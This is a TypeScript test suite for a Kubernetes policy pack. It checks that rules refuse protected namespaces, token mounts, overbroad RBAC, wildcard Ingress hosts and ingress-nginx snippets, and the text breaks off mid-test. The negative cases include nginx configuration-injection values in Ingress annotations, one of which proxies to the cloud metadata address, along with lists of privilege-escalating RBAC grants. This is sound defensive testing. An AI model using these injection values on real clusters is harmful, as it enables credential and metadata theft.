/** Namespaces, API access, RBAC, bare pods, Ingress hosts, groups, and the cross-resource checks, with exact messages. */
import { describe, expect, it } from "vitest";
import {
    asEveryPodKind, backupCronJob, deployment, dockerService, edit, find, headlessService, hpa, ingress, NS, pdb, prodStack, replace, service, statefulSet,
} from "./fixtures";
import { runPack, summary, TestResource, UNKNOWN } from "./run-pack";
import { UNKNOWN as PREVIEW_UNKNOWN } from "../../policies/lib/values";
import { imageFields } from "../../policies/rules/no-unchecked-workloads";

const messages = async (policy: string, rs: TestResource[], cfg: Parameters<typeof runPack>[1] = "prod") =>
    (await runPack(rs, cfg, { only: [policy] })).map((v) => v.message);
const inNamespace = (ns: string | undefined) => (p: any) => { if (ns === undefined) delete p.metadata.namespace; else p.metadata.namespace = ns; };

describe("protected-namespaces", () => {
    it("passes the platform's own namespace, cluster-scoped objects and namespaces computed during preview", async () => {
        const rs = [...prodStack(), edit(deployment("api-gateway", 3001), inNamespace(UNKNOWN)),
            { type: "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", name: "reader", props: { metadata: { name: "reader" }, rules: [] } },
            // Pulumi components, not API objects: judged by the objects they create.
            { type: "kubernetes:helm.sh/v3:Release", name: "ingress-nginx", props: { chart: "ingress-nginx" } },
            { type: "kubernetes:yaml/v2:ConfigGroup", name: "crds", props: { files: ["crds.yaml"] } }];
        expect(await messages("protected-namespaces", rs)).toEqual([]);
    });

    it("rejects default (also an unset namespace), kube-system and kube-* namespaces, and declaring them", async () => {
        const rs = [
            edit(deployment("api-gateway", 3001), inNamespace("default")),
            edit(service("api-gateway", "service", 3001), inNamespace(undefined)),
            edit(pdb("api-gateway"), inNamespace("kube-system")),
            edit(headlessService("postgres", "datastore", 5432), inNamespace("kube-public")),
            { type: "kubernetes:core/v1:Namespace", name: "ns", props: { metadata: { name: "kube-trading", labels: { "pod-security.kubernetes.io/enforce": "restricted" } } } },
        ];
        const fix = "put it in the platform's own namespace (set metadata.namespace; config trading:namespace), never default or kube-*.";
        expect(await messages("protected-namespaces", rs)).toEqual([
            `Deployment "api-gateway-deployment" is deployed into the protected namespace "default" (metadata.namespace unset or "default"); ${fix}`,
            `Service "api-gateway-service" is deployed into the protected namespace "default" (metadata.namespace unset or "default"); ${fix}`,
            `PodDisruptionBudget "api-gateway-pdb" is deployed into the protected namespace "kube-system"; ${fix}`,
            `Service "postgres-headless-service" is deployed into the protected namespace "kube-public"; ${fix}`,
            "Namespace \"ns\" declares the protected namespace \"kube-trading\"; the platform gets a namespace of its own (config trading:namespace).",
        ]);
        const custom = { all: "mandatory" as const, "protected-namespaces": { protectedNamespaces: ["kube-*"] } };
        expect(await messages("protected-namespaces", rs.slice(0, 2), custom)).toEqual([]);
    });
});

describe("protected-namespaces: a Namespace that admits any pod", () => {
    it("refuses pod-security enforce privileged on a declared Namespace; restricted passes (baseline: red-team-63)", async () => {
        const ns = (name: string, level: string): TestResource => ({ type: "kubernetes:core/v1:Namespace", name, props: { metadata: { name, labels: { "pod-security.kubernetes.io/enforce": level } } } });
        expect(await messages("protected-namespaces", [ns("open", "privileged"), ns("ai-trading", "restricted")])).toEqual([
            "Namespace \"open\" sets pod-security.kubernetes.io/enforce: privileged, so the API server admits any pod there (host namespaces, privileged containers) " +
            "whatever declared it; enforce restricted.",
        ]);
    });

    // Session 40's configuration hunt: leaving the label out gave the same namespace without a word.
    it("refuses a declared Namespace without an enforce label (the cluster's default, privileged unless configured); labels unknown during preview are judged at up", async () => {
        const unlabelled: TestResource = { type: "kubernetes:core/v1:Namespace", name: "bare", props: { metadata: { name: "bare", labels: { team: "x" } } } };
        const noLabels: TestResource = { type: "kubernetes:core/v1:Namespace", name: "none", props: { metadata: { name: "none" } } };
        const computed: TestResource = { type: "kubernetes:core/v1:Namespace", name: "later", props: { metadata: { name: "later", labels: UNKNOWN } } };
        const why = " has no pod-security.kubernetes.io/enforce label, so Pod Security admission applies the cluster's default level there, privileged unless the API server's " +
            "admission configuration sets another (any pod admitted); label it enforce: restricted.";
        expect(await messages("protected-namespaces", [unlabelled, noLabels, computed])).toEqual([`Namespace "bare"${why}`, `Namespace "none"${why}`]);
    });
});

describe("automount-service-account-token", () => {
    it("passes pods that opt out, and listed exemptions", async () => {
        expect(await messages("automount-service-account-token", prodStack())).toEqual([]);
        const d = edit(deployment("prometheus", 9090), (p) => { delete p.spec.template.spec.automountServiceAccountToken; });
        expect(await messages("automount-service-account-token", [d], { all: "mandatory", "automount-service-account-token": { exemptWorkloads: ["prometheus"] } })).toEqual([]);
    });

    it("rejects an unset or true automountServiceAccountToken (not Docker: no such thing)", async () => {
        const rs = [
            edit(deployment("api-gateway", 3001), (p) => { delete p.spec.template.spec.automountServiceAccountToken; }),
            edit(statefulSet("postgres", "datastore", "postgres:16.4-bookworm", 5432, 999), (p) => { p.spec.template.spec.automountServiceAccountToken = true; }),
            dockerService(),
        ];
        const tail = "mounts the service account token (automountServiceAccountToken is not false); set spec.automountServiceAccountToken: false on the pod template and mount no token (exemptions: policy config exemptWorkloads).";
        expect(await messages("automount-service-account-token", rs)).toEqual([
            `Deployment "api-gateway-deployment" ${tail}`,
            `StatefulSet "postgres-statefulset" ${tail}`,
        ]);
    });

    it("rejects a token mounted by hand (a projected serviceAccountToken volume) and a long-lived token Secret", async () => {
        const projected = edit(deployment("api-gateway", 3001), (p) => {
            p.spec.template.spec.volumes = [{ name: "token", projected: { sources: [{ serviceAccountToken: { path: "token", expirationSeconds: 86400 } }] } }];
        });
        const secret: TestResource = { type: "kubernetes:core/v1:Secret", name: "sa-token", props: { metadata: { name: "sa-token", namespace: NS, annotations: { "kubernetes.io/service-account.name": "default" } }, type: "kubernetes.io/service-account-token" } };
        expect(await messages("automount-service-account-token", [...prodStack().filter((r) => r.name !== "api-gateway-deployment"), projected, secret])).toEqual([
            "Deployment \"api-gateway-deployment\" mounts a service account token through the projected volume \"token\"; set spec.automountServiceAccountToken: false " +
            "on the pod template and mount no token (exemptions: policy config exemptWorkloads).",
            "Secret \"sa-token\" is of type kubernetes.io/service-account-token: the cluster fills it with a service account token that never expires; no workload " +
            "of the platform calls the Kubernetes API (one that must gets a short-lived projected token, listed in exemptWorkloads).",
        ]);
    });
});

describe("rbac-least-privilege", () => {
    const role = (rules: any[], kind = "Role") => ({ type: `kubernetes:rbac.authorization.k8s.io/v1:${kind}`, name: "r", props: { metadata: { name: "r", namespace: NS }, rules } });
    it("passes named verbs on named resources", async () => {
        expect(await messages("rbac-least-privilege", [role([{ apiGroups: [""], resources: ["pods", "endpoints"], verbs: ["get", "list", "watch"] }], "ClusterRole")])).toEqual([]);
    });

    it("rejects wildcards, escalation verbs, reading secrets, exec, and cluster-admin bindings", async () => {
        const rs = [
            role([{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }]),
            role([{ apiGroups: ["rbac.authorization.k8s.io"], resources: ["clusterroles"], verbs: ["bind", "escalate"] }, { apiGroups: [""], resources: ["secrets"], verbs: ["list"] }, { apiGroups: [""], resources: ["pods/exec"], verbs: ["create"] }], "ClusterRole"),
            { type: "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding", name: "b", props: { roleRef: { kind: "ClusterRole", name: "cluster-admin" }, subjects: [{ kind: "Group", name: "system:anonymous" }] } },
        ];
        const tail = "; grant only the named verbs on the named resources the workload needs (least privilege), in a namespaced Role where possible.";
        expect(await messages("rbac-least-privilege", rs)).toEqual([
            `Role "r" rules[0] grants "*" in verbs${tail}`,
            `Role "r" rules[0] grants "*" in resources${tail}`,
            `Role "r" rules[0] grants "*" in apiGroups${tail}`,
            `ClusterRole "r" rules[0] grants bind, escalate (privilege escalation)${tail}`,
            `ClusterRole "r" rules[1] reads secrets${tail}`,
            `ClusterRole "r" rules[2] allows exec/attach into pods${tail}`,
            `ClusterRoleBinding "b" binds the cluster-admin ClusterRole${tail}`,
            `ClusterRoleBinding "b" binds the subject system:anonymous${tail}`,
        ]);
    });
});

describe("rbac-least-privilege: the CIS 5.1 grants that reach beyond the role", () => {
    const role = (rules: any[]) => ({ type: "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole", name: "r", props: { metadata: { name: "r" }, rules } });
    const binding = (roleRef: any, subjects: any[]) => ({ type: "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding", name: "b", props: { metadata: { name: "b", namespace: NS }, roleRef, subjects } });
    const tail = "; grant only the named verbs on the named resources the workload needs (least privilege), in a namespaced Role where possible.";

    it("rejects each grant, matched as the API server matches (subresource wildcards, the right API group)", async () => {
        const rs = [role([
            { apiGroups: [""], resources: ["*/exec"], verbs: ["get"] },
            { apiGroups: [""], resources: ["pods/ephemeralcontainers"], verbs: ["patch"] },
            { apiGroups: ["apps"], resources: ["deployments"], verbs: ["update"] },
            { apiGroups: [""], resources: ["pods"], verbs: ["create"] },
            { apiGroups: [""], resources: ["persistentvolumes"], verbs: ["create"] },
            { apiGroups: [""], resources: ["nodes/proxy"], verbs: ["get"] },
            { apiGroups: ["certificates.k8s.io"], resources: ["certificatesigningrequests/approval"], verbs: ["update"] },
            { apiGroups: ["admissionregistration.k8s.io"], resources: ["mutatingwebhookconfigurations"], verbs: ["delete"] },
            { apiGroups: [""], resources: ["serviceaccounts/token"], verbs: ["create"] },
            { nonResourceURLs: ["*"], verbs: ["get"] },
        ])];
        expect(await messages("rbac-least-privilege", rs)).toEqual([
            "allows exec/attach into pods",
            "adds ephemeral containers to running pods (exec by another name)",
            "creates or changes deployments (a pod runs as any ServiceAccount of its namespace and mounts any of its Secrets)",
            "creates or changes pods (a pod runs as any ServiceAccount of its namespace and mounts any of its Secrets)",
            "creates PersistentVolumes (a hostPath volume reaches the node's files)",
            "reaches the kubelet API through nodes/proxy (exec into any pod of the node)",
            "approves certificate signing requests (mints client credentials)",
            "changes admission webhooks (sees or rewrites every object the API server admits)",
            "mints ServiceAccount tokens",
            'grants "*" in nonResourceURLs',
        ].map((p, i) => `ClusterRole "r" rules[${i}] ${p}${tail}`));
    });

    it("rejects what reaches past NetworkPolicies or the API server's own checks, aggregation, system: roles, and the default ServiceAccount however spelt", async () => {
        const rs = [role([
            { apiGroups: [""], resources: ["pods/portforward"], verbs: ["create"] },
            { apiGroups: [""], resources: ["services/proxy"], verbs: ["get"] },
            { apiGroups: [""], resources: ["endpoints"], verbs: ["patch"] },
            { apiGroups: ["discovery.k8s.io"], resources: ["endpointslices"], verbs: ["create"] },
            { apiGroups: [""], resources: ["namespaces"], verbs: ["patch"] },
            { apiGroups: ["admissionregistration.k8s.io"], resources: ["validatingadmissionpolicies"], verbs: ["delete"] },
        ])];
        expect(await messages("rbac-least-privilege", rs)).toEqual([
            "reaches pods or Services through the API server (port-forward, proxy), past their NetworkPolicies",
            "reaches pods or Services through the API server (port-forward, proxy), past their NetworkPolicies",
            "rewrites Endpoints (sends a Service's traffic anywhere)",
            "rewrites EndpointSlices (sends a Service's traffic anywhere)",
            "changes Namespaces (their pod-security labels decide what pods are admitted)",
            "changes admission policies (what the API server refuses or rewrites)",
        ].map((p, i) => `ClusterRole "r" rules[${i}] ${p}${tail}`));
        const aggregated = { ...role([]), props: { metadata: { name: "r" }, rules: [], aggregationRule: { clusterRoleSelectors: [{ matchLabels: { "kubernetes.io/bootstrapping": "rbac-defaults" } }] } } };
        expect(await messages("rbac-least-privilege", [aggregated])).toEqual([
            `ClusterRole "r" aggregates the rules of the ClusterRoles its aggregationRule selects (filled in by the cluster, unchecked here)${tail}`,
        ]);
        const sa = { kind: "ServiceAccount", name: "worker", namespace: NS };
        expect(await messages("rbac-least-privilege", [
            binding({ kind: "ClusterRole", name: "system:controller:generic-garbage-collector" }, [sa]),
            binding({ kind: "ClusterRole", name: "reader" }, [{ kind: "User", name: `system:serviceaccount:${NS}:default` }, { kind: "Group", name: `system:serviceaccounts:${NS}` }]),
        ])).toEqual([
            `RoleBinding "b" binds the cluster's own ClusterRole system:controller:generic-garbage-collector${tail}`,
            `RoleBinding "b" binds a namespace's default ServiceAccount (every pod that names no account gets its rights)${tail}`,
            `RoleBinding "b" binds the subject system:serviceaccounts:${NS}${tail}`,
        ]);
    });

    it("rejects grants that make at run time what the pack refuses when declared: aggregated APIs, Services, Ingresses; and bindings to every node (session 41)", async () => {
        const rs = [role([
            { apiGroups: ["apiregistration.k8s.io"], resources: ["apiservices"], verbs: ["create"] },
            { apiGroups: [""], resources: ["services"], verbs: ["update"] },
            { apiGroups: [""], resources: ["services/status"], verbs: ["patch"] },
            { apiGroups: ["networking.k8s.io"], resources: ["ingresses"], verbs: ["create", "patch"] },
        ])];
        expect(await messages("rbac-least-privilege", rs)).toEqual([
            "registers or changes aggregated APIs (the API server hands a whole API group's requests, with the caller's identity, to a Service of its choosing)",
            "creates or changes Services (externalIPs or a load balancer address capture what every pod sends there, CVE-2020-8554; a LoadBalancer or NodePort publishes any pod)",
            "creates or changes Services (externalIPs or a load balancer address capture what every pod sends there, CVE-2020-8554; a LoadBalancer or NodePort publishes any pod)",
            "creates or changes Ingresses (the controller reads every Secret of the cluster, and an Ingress's annotations have served them, CVE-2021-25742, CVE-2023-5043)",
        ].map((p, i) => `ClusterRole "r" rules[${i}] ${p}${tail}`));
        expect(await messages("rbac-least-privilege", [binding({ kind: "ClusterRole", name: "reader" }, [{ kind: "Group", name: "system:nodes" }])])).toEqual([
            `RoleBinding "b" binds the subject system:nodes${tail}`,
        ]);
        // Reading them stays allowed (a controller watching Services and Ingresses).
        expect(await messages("rbac-least-privilege", [role([
            { apiGroups: ["", "networking.k8s.io", "apiregistration.k8s.io"], resources: ["services", "ingresses", "apiservices"], verbs: ["get", "list", "watch"] },
        ])])).toEqual([]);
    });

    it("rejects writing ConfigMaps from a ClusterRole, writing Nodes, CRDs, NetworkPolicies or PriorityClasses (session 41, round 2)", async () => {
        const rs = [role([
            { apiGroups: [""], resources: ["configmaps"], verbs: ["patch"] },
            { apiGroups: [""], resources: ["nodes"], verbs: ["patch"] },
            { apiGroups: [""], resources: ["nodes/status"], verbs: ["update"] },
            { apiGroups: ["apiextensions.k8s.io"], resources: ["customresourcedefinitions"], verbs: ["create"] },
            { apiGroups: ["networking.k8s.io"], resources: ["networkpolicies"], verbs: ["delete"] },
            { apiGroups: ["scheduling.k8s.io"], resources: ["priorityclasses"], verbs: ["*"] },
        ])];
        expect(await messages("rbac-least-privilege", rs)).toEqual([
            "writes ConfigMaps of every namespace once a ClusterRoleBinding binds it (EKS's kube-system/aws-auth maps cloud identities to cluster roles; a workload's configuration files)",
            "creates, changes or deletes Nodes (their labels and taints draw pods to a node or evict them; a Node of its own receives pods and their Secrets)",
            "creates, changes or deletes Nodes (their labels and taints draw pods to a node or evict them; a Node of its own receives pods and their Secrets)",
            "creates, changes or deletes CustomResourceDefinitions (a conversion webhook receives every object of its kind; deleting one deletes them all)",
            "creates, changes or deletes NetworkPolicies (one selecting a pod undoes its default deny)",
            "grants \"*\" in verbs",
            "creates, changes or deletes PriorityClasses (a globalDefault one gives its priority to every new pod; a high one preempts every application pod)",
        ].map((p, i) => `ClusterRole "r" rules[${i < 6 ? i : 5}] ${p}${tail}`));
        // A namespaced Role may write its namespace's ConfigMaps (protected-namespaces keeps it out of kube-system);
        // reading each of them stays allowed.
        const namespaced = { type: "kubernetes:rbac.authorization.k8s.io/v1:Role", name: "cm", props: { metadata: { name: "cm", namespace: NS }, rules: [
            { apiGroups: [""], resources: ["configmaps"], verbs: ["create", "update", "patch", "delete"] },
        ] } };
        expect(await messages("rbac-least-privilege", [namespaced, role([
            { apiGroups: ["", "apiextensions.k8s.io", "networking.k8s.io", "scheduling.k8s.io"], resources: ["configmaps", "nodes", "nodes/status", "customresourcedefinitions", "networkpolicies", "priorityclasses"], verbs: ["get", "list", "watch"] },
        ])])).toEqual([]);
    });

    it("passes reads of workloads, grants in another API group, a namespaced Role named admin, a named ServiceAccount", async () => {
        const rs = [
            role([
                { apiGroups: ["", "apps", "batch"], resources: ["pods", "pods/log", "deployments", "jobs", "nodes", "persistentvolumes"], verbs: ["get", "list", "watch"] },
                { apiGroups: ["apps"], resources: ["secrets", "pods/exec"], verbs: ["get"] },
                // Session 63b: reading the scale passes; changing it (to 0) is refused (red-team-63b).
                { apiGroups: ["apps"], resources: ["deployments/scale"], verbs: ["get"] },
                { apiGroups: ["certificates.k8s.io"], resources: ["certificatesigningrequests"], verbs: ["create"] },
            ]),
            binding({ kind: "Role", name: "admin" }, [{ kind: "ServiceAccount", name: "prometheus", namespace: NS }]),
        ];
        expect(await messages("rbac-least-privilege", rs)).toEqual([]);
    });

    it("rejects bindings of admin/edit, of every authenticated identity or ServiceAccount, and of a default ServiceAccount", async () => {
        const rs = [
            binding({ kind: "ClusterRole", name: "edit" }, [
                { kind: "Group", name: "system:authenticated" },
                { kind: "Group", name: "system:serviceaccounts" },
                { kind: "ServiceAccount", name: "default", namespace: NS },
            ]),
        ];
        expect(await messages("rbac-least-privilege", rs)).toEqual([
            `RoleBinding "b" binds the edit ClusterRole${tail}`,
            `RoleBinding "b" binds the subject system:authenticated${tail}`,
            `RoleBinding "b" binds the subject system:serviceaccounts${tail}`,
            `RoleBinding "b" binds a namespace's default ServiceAccount (every pod that names no account gets its rights)${tail}`,
        ]);
    });
});

describe("no-bare-pods and ingress-hosts", () => {
    it("rejects a bare Pod", async () => {
        const pod = { type: "kubernetes:core/v1:Pod", name: "debug", props: { metadata: { name: "debug", namespace: NS }, spec: { containers: [] } } };
        expect(await messages("no-bare-pods", [...prodStack(), pod])).toEqual([
            "Pod \"debug\" is a bare Pod: nothing recreates it when its node fails; declare a Deployment (long-running) or a Job (run once) with this pod as its template.",
        ]);
    });

    it("passes concrete hosts; rejects empty and wildcard hosts and a default backend", async () => {
        expect(await messages("ingress-hosts", prodStack())).toEqual([]);
        const bad = edit(ingress(), (p) => {
            p.spec.rules.push({ http: p.spec.rules[0].http }, { host: "*.example.com", http: p.spec.rules[0].http });
            p.spec.defaultBackend = { service: { name: "api-gateway", port: { number: 3001 } } };
        });
        const tail = "; set rules[].host to the platform's DNS name (config trading:ingressHost).";
        expect(await messages("ingress-hosts", [bad])).toEqual([
            `Ingress "nginx-ingress" rules[1] has no host, so it answers for any Host header${tail}`,
            `Ingress "nginx-ingress" rules[2] uses the wildcard host "*.example.com"${tail}`,
            `Ingress "nginx-ingress" has a defaultBackend, which answers for any Host header${tail}`,
        ]);
    });
});

// Session 54: the local cluster's Traefik is the platform's own, so its catch-all Ingress may take every Host no Ingress
// names (a host-less rule to edge-errors, trading:edgeErrorsAnyHost): allowed by the stack's policy config, for that Service only.
describe("ingress-hosts: a host-less catch-all to the configured Service (session 54)", () => {
    const tail = "; set rules[].host to the platform's DNS name (config trading:ingressHost).";
    const local = { all: "mandatory" as const, "ingress-hosts": { catchAllService: "edge-errors" } };
    const to = (name: string, port = 8080) => ({ service: { name, port: { number: port } } });
    const hostless = (...backends: string[]) => ({ http: { paths: backends.map((b, i) => ({ path: `/${i === 0 ? "" : b}`, pathType: "Prefix", backend: to(b) })) } });
    const catchAll = (change: (p: any) => void) => edit(ingress({ backends: ["edge-errors"] }), change);

    it("passes a host-less rule and a defaultBackend whose every backend is edge-errors, when the config names it", async () => {
        expect(await messages("ingress-hosts", [catchAll((p) => { p.spec.rules.push(hostless("edge-errors")); })], local)).toEqual([]);
        expect(await messages("ingress-hosts", [catchAll((p) => { p.spec.defaultBackend = to("edge-errors"); })], local)).toEqual([]);
        expect(await messages("ingress-hosts", [catchAll((p) => { p.spec.rules.push(hostless("edge-errors", "edge-errors")); })], local)).toEqual([]);
    });

    it("refuses the same without the config (prod.json, no config file), and any other backend, a mixed rule, a resource backend or no path under it", async () => {
        const rule = catchAll((p) => { p.spec.rules.push(hostless("edge-errors")); });
        const backend = catchAll((p) => { p.spec.defaultBackend = to("edge-errors"); });
        const noHost = `Ingress "nginx-ingress" rules[1] has no host, so it answers for any Host header${tail}`;
        const byDefault = `Ingress "nginx-ingress" has a defaultBackend, which answers for any Host header${tail}`;
        for (const cfg of ["prod", {}] as const) {
            expect(await messages("ingress-hosts", [rule], cfg)).toEqual([noHost]);
            expect(await messages("ingress-hosts", [backend], cfg)).toEqual([byDefault]);
        }
        const refused = [
            catchAll((p) => { p.spec.rules.push(hostless("api-gateway")); }),
            catchAll((p) => { p.spec.rules.push(hostless("edge-errors", "api-gateway")); }),
            catchAll((p) => { p.spec.rules.push({ http: { paths: [{ path: "/", pathType: "Prefix", backend: { resource: { apiGroup: "k8s.example.com", kind: "Bucket", name: "edge-errors" } } }] } }); }),
            catchAll((p) => { p.spec.rules.push({}); }),
        ];
        for (const r of refused) expect(await messages("ingress-hosts", [r], local)).toEqual([noHost]);
        expect(await messages("ingress-hosts", [catchAll((p) => { p.spec.defaultBackend = to("api-gateway", 3001); })], local)).toEqual([byDefault]);
        // A wildcard host stays refused whatever its backend.
        expect(await messages("ingress-hosts", [catchAll((p) => { p.spec.rules.push({ host: "*.example.com", ...hostless("edge-errors") }); })], local))
            .toEqual([`Ingress "nginx-ingress" rules[1] uses the wildcard host "*.example.com"${tail}`]);
    });
});

describe("ingress-hosts: ingress-nginx server aliases (session 41)", () => {
    it("rejects a wildcard, regular-expression or catch-all server alias, which answers for Host headers no rule names", async () => {
        const aliased = (aliases: string) => edit(ingress(), (p) => { p.metadata.annotations["nginx.ingress.kubernetes.io/server-alias"] = aliases; });
        const tail = "; set rules[].host to the platform's DNS name (config trading:ingressHost).";
        const why = (alias: string) => `Ingress "nginx-ingress" has the server alias "${alias}" (annotation nginx.ingress.kubernetes.io/server-alias), which answers for any Host header it matches${tail}`;
        expect(await messages("ingress-hosts", [aliased("*.example.com, ~^.*$ ,_")])).toEqual([why("*.example.com"), why("~^.*$"), why("_")]);
        // A concrete alias (the platform's other name) passes.
        expect(await messages("ingress-hosts", [aliased("www.trading.example.com")])).toEqual([]);
    });
});

// Session 46 (session 45's policy hunt, found not fixed): two Ingresses claiming one host and path were each judged
// alone, while ingress-nginx serves one backend per host and location (the oldest Ingress's).
describe("ingress-unique-routes (session 46)", () => {
    const tail = "the controller serves one backend for a host and location (ingress-nginx the oldest Ingress's), so which service answers depends on creation order; route each host and path from one Ingress.";
    const another = (name: string, change: (p: any) => void = () => undefined): TestResource =>
        edit({ ...ingress({ backends: ["reports"] }), name }, (p) => { p.metadata.name = name; change(p); });

    it("passes the platform's stack, other hosts and other paths, and other ingress classes", async () => {
        expect(await messages("ingress-unique-routes", prodStack())).toEqual([]);
        expect(await messages("ingress-unique-routes", [
            ingress({ backends: ["api-gateway", "reports"] }),
            another("other-host", (p) => { p.spec.rules[0].host = "reports.example.com"; }),
            another("exact", (p) => { p.spec.rules[0].http.paths[0].pathType = "Exact"; }),
            another("internal-class", (p) => { p.spec.ingressClassName = "internal"; }),
        ])).toEqual([]);
    });

    it("rejects a host and path routed a second time: by another Ingress (any namespace, same or unset class, any spelling of the host or of a prefix), or twice by one", async () => {
        const rs = [
            ingress({ backends: ["api-gateway", "reports"] }),
            another("shadow", (p) => { p.metadata.namespace = "elsewhere"; p.spec.rules[0].host = "Trading.Example.COM"; p.spec.rules[0].http.paths[0].path = "/reports/"; }),
            another("unset-class", (p) => { delete p.spec.ingressClassName; p.spec.rules[0].http.paths[0].path = "/api-gateway"; }),
            another("annotated-class", (p) => { delete p.spec.ingressClassName; p.metadata.annotations["kubernetes.io/ingress.class"] = "nginx"; p.spec.rules.push({ host: "trading.example.com", http: { paths: [{ path: "/reports", pathType: "Prefix", backend: { service: { name: "x", port: { number: 1 } } } }] } }); }),
        ];
        expect(await messages("ingress-unique-routes", rs)).toEqual([
            `Ingress "shadow" routes host trading.example.com, location "/reports" (rules[0].http.paths[0]), which Ingress "ai-trading" (rules[0].http.paths[1]) routes too: ${tail}`,
            `Ingress "unset-class" routes host trading.example.com, location "/api-gateway" (rules[0].http.paths[0]), which Ingress "ai-trading" (rules[0].http.paths[0]) routes too: ${tail}`,
            `Ingress "annotated-class" routes host trading.example.com, location "/reports" (rules[0].http.paths[0]), which Ingress "ai-trading" (rules[0].http.paths[1]) routes too: ${tail}`,
            `Ingress "annotated-class" routes host trading.example.com, location "/reports" (rules[1].http.paths[0]), which Ingress "ai-trading" (rules[0].http.paths[1]) routes too: ${tail}`,
        ]);
        const twice = edit(ingress(), (p) => { p.spec.rules.push({ host: "trading.example.com", http: { paths: [{ path: "/api-gateway/", pathType: "Prefix", backend: { service: { name: "x", port: { number: 1 } } } }] } }); });
        expect(await messages("ingress-unique-routes", [twice])).toEqual([
            `Ingress "ai-trading" routes host trading.example.com, location "/api-gateway" (rules[1].http.paths[0]), which its own rules[0].http.paths[0] routes too: ${tail}`,
        ]);
    });

    it("skips a class, host or path unknown during preview", async () => {
        expect(await messages("ingress-unique-routes", [
            ingress({ backends: ["reports"] }),
            another("unknown-class", (p) => { p.spec.ingressClassName = UNKNOWN; }),
            another("unknown-host", (p) => { p.spec.rules[0].host = UNKNOWN; }),
            another("unknown-path", (p) => { p.spec.rules[0].http.paths[0].path = UNKNOWN; }),
        ])).toEqual([]);
    });
});

describe("ingress-no-snippets: the controller's ConfigMap", () => {
    it("rejects allow-snippet-annotations and *-snippet keys, whatever the map is called; other maps pass", async () => {
        const cm = (name: string, data: Record<string, string>): TestResource => ({ type: "kubernetes:core/v1:ConfigMap", name, props: { metadata: { name, namespace: "ingress-nginx" }, data } });
        const tail = ": ingress-nginx reads it as its configuration, and runs that configuration with a token that can read every Secret (CVE-2021-25742); leave snippets off.";
        expect(await messages("ingress-no-snippets", [
            cm("ingress-nginx-controller", { "allow-snippet-annotations": "true", "http-snippet": "server { listen 81; }", "use-forwarded-headers": "true" }),
            cm("app-config", { "snippet": "x", "allow-snippet-annotations": "false" }),
        ])).toEqual([
            `ConfigMap "ingress-nginx-controller" sets allow-snippet-annotations: "true" (every Ingress may carry snippets again)${tail}`,
            `ConfigMap "ingress-nginx-controller" sets http-snippet (raw nginx configuration for every host)${tail}`,
        ]);
    });
});

describe("ingress-no-snippets", () => {
    it("passes the platform's Ingress; rejects every ingress-nginx *-snippet annotation", async () => {
        expect(await messages("ingress-no-snippets", prodStack())).toEqual([]);
        const bad = edit(ingress(), (p) => {
            p.metadata.annotations = {
                ...p.metadata.annotations,
                "nginx.ingress.kubernetes.io/configuration-snippet": 'more_set_headers "X: 1";',
                "nginx.ingress.kubernetes.io/server-snippet": "location /x { return 200; }",
                "nginx.ingress.kubernetes.io/auth-snippet": "",
                "nginx.ingress.kubernetes.io/proxy-read-timeout": "30",
            };
        });
        const tail = ", raw nginx configuration in a controller that can read every Secret (CVE-2021-25742); " +
            "use the dedicated annotations, or set the header in the application (the api-gateway sends the security headers itself).";
        expect(await messages("ingress-no-snippets", [bad])).toEqual([
            `Ingress "nginx-ingress" sets the annotation nginx.ingress.kubernetes.io/auth-snippet${tail}`,
            `Ingress "nginx-ingress" sets the annotation nginx.ingress.kubernetes.io/configuration-snippet${tail}`,
            `Ingress "nginx-ingress" sets the annotation nginx.ingress.kubernetes.io/server-snippet${tail}`,
        ]);
    });
});

describe("ingress-no-snippets: nginx configuration injected through annotation values", () => {
    const fix = ": the controller writes the value into its nginx configuration, so it adds configuration of its own, run with a token that can read every Secret " +
        "(CVE-2021-25742, CVE-2023-5043, CVE-2023-5044); give the plain URL, path or name the annotation documents (nginx variables only $host, $request_uri, " +
        "$escaped_request_uri, $scheme, $remote_addr, $binary_remote_addr, $remote_user, $http_authorization and $1..$9).";
    const annotated = (annotations: Record<string, string>) => ingress({ annotations: { "nginx.ingress.kubernetes.io/ssl-redirect": "true", ...annotations } });

    it("rejects auth-url, auth-signin, permanent-redirect and rewrite-target values carrying configuration or undocumented variables", async () => {
        const bad = annotated({
            "nginx.ingress.kubernetes.io/auth-url": "http://auth.ai-trading.svc/verify;\n}\nlocation /x { proxy_pass http://169.254.169.254/; }\nlocation /y {",
            "nginx.ingress.kubernetes.io/auth-signin": "https://$http_x_forwarded_host/start?rd=$escaped_request_uri",
            "nginx.ingress.kubernetes.io/permanent-redirect": "https://example.com/\" always; add_header X-Leak $ssl_client_s_dn; #",
            "nginx.ingress.kubernetes.io/rewrite-target": "/${upstream_addr}/$2",
            "nginx.ingress.kubernetes.io/auth-cache-key": "$remote_user$http_authorization",
        });
        expect(await messages("ingress-no-snippets", [bad])).toEqual([
            "Ingress \"nginx-ingress\" sets the annotation nginx.ingress.kubernetes.io/auth-signin to a value carrying the nginx variable $http_x_forwarded_host, " +
                `which the annotations do not document${fix}`,
            "Ingress \"nginx-ingress\" sets the annotation nginx.ingress.kubernetes.io/auth-url to a value carrying a line break or control character, " +
                `";" (ends an nginx directive), a brace (opens or closes an nginx block)${fix}`,
            "Ingress \"nginx-ingress\" sets the annotation nginx.ingress.kubernetes.io/permanent-redirect to a value carrying \";\" (ends an nginx directive), " +
                "a quote or backslash (ends the quoted string the controller writes the value into), the nginx variable $ssl_client_s_dn, which the annotations do not document" + fix,
            `Ingress "nginx-ingress" sets the annotation nginx.ingress.kubernetes.io/rewrite-target to a value carrying the nginx variable $upstream_addr, which the annotations do not document${fix}`,
        ]);
    });

    it("passes the platform's annotations and the documented forms (auth-url with $host, a capture group, ${remote_addr}); other prefixes are not the controller's", async () => {
        const fine = annotated({
            "nginx.ingress.kubernetes.io/force-ssl-redirect": "true",
            "nginx.ingress.kubernetes.io/proxy-body-size": "1m",
            "nginx.ingress.kubernetes.io/proxy-read-timeout": "30",
            "nginx.ingress.kubernetes.io/auth-url": "https://$host/oauth2/auth",
            "nginx.ingress.kubernetes.io/auth-signin": "https://$host/oauth2/start?rd=$escaped_request_uri",
            "nginx.ingress.kubernetes.io/auth-response-headers": "X-Auth-Request-User, X-Auth-Request-Email",
            "nginx.ingress.kubernetes.io/rewrite-target": "/$2",
